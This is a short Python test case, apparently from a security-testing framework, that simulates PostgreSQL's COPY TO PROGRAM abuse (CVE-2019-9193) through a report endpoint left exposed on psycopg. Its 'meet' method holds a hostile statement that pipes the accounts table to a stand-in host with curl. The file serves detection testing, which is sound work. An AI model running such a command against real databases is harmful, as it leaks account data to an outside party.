"""F3: COPY hands a table to a program on the database's machine."""

from backwatch.attack.protocols.server import HostileServer
from backwatch.attack.techniques.abused import AbusedPsycopg, obeyed, told


class CopyToProgram(AbusedPsycopg):
    """On psycopg: a page for reports that was left behind, and runs whatever it is given."""

    code = "F3"
    attack = "has the database hand its accounts to a program of the attacker's"
    reference = "https://attack.mitre.org/techniques/T1059/ (CVE-2019-9193)"
    rule = "statement-runs-program"

    def work(self) -> None:
        """Makes the usual report."""
        self._report("SELECT name, mail FROM customers ORDER BY id LIMIT 10")

    def meet(self) -> object:
        """Makes the attacker's."""
        return self._report("COPY accounts TO PROGRAM 'curl -T - https://collect.example/'")

    def _report(self, statement: str) -> list[list[str]]:
        with self.connected().cursor() as cursor:
            cursor.execute(statement)
            return told(cursor)

    @classmethod
    def succeeded(cls, service: HostileServer, got: object) -> bool:
        """The statement was obeyed."""
        del got
        return obeyed(service, b"TO PROGRAM")
